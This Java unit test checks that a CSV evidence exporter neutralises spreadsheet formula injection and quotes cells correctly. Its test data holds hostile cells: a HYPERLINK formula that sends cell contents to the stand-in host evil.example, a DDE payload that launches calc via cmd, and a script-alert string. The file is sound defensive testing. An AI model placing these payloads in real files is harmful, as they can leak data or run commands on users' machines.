package dev.linkwatch.dashboard;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** The export read back by an independent strict RFC 4180 parser: hostile cells stay whole and inert. */
class EvidenceCsvTest {
  static final CSVFormat STRICT = CSVFormat.RFC4180.builder().setTrim(false).setIgnoreEmptyLines(false).get();

  static List<List<String>> parse(String csv) throws Exception {
    List<List<String>> rows = new ArrayList<>();
    try (CSVParser p = CSVParser.parse(new StringReader(csv), STRICT)) {
      for (CSVRecord r : p) {
        rows.add(r.toList());
      }
    }
    return rows;
  }

  @Test
  void hostileCellsComeBackWholeAndFormulasStayText() throws Exception {
    List<String> hostile =
        List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\tTAB=1",
            "\rCR",
            "a,b",
            "she said \"hi\"",
            "two\nlines\r\nand more",
            "<script>alert(1)</script>",
            "plain 🎵 text",
            "");
    String csv = EvidenceCsv.row(List.of("h1", "h2")) + EvidenceCsv.row(hostile);
    assertThat(csv).endsWith("\r\n");

    List<List<String>> rows = parse(csv);
    assertThat(rows).hasSize(2);
    assertThat(rows.get(0)).containsExactly("h1", "h2");
    assertThat(rows.get(1))
        .containsExactly(
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "'+cmd|' /C calc'!A0",
            "'-2+3",
            "'@SUM(A1:A9)",
            "'\tTAB=1",
            "'\rCR",
            "a,b",
            "she said \"hi\"",
            "two\nlines\r\nand more",
            "<script>alert(1)</script>",
            "plain 🎵 text",
            "");
  }

  @Test
  void nullIsAnEmptyCellAndEveryCellIsQuoted() {
    assertThat(EvidenceCsv.row(java.util.Arrays.asList("x", null))).isEqualTo("\"x\",\"\"\r\n");
  }
}
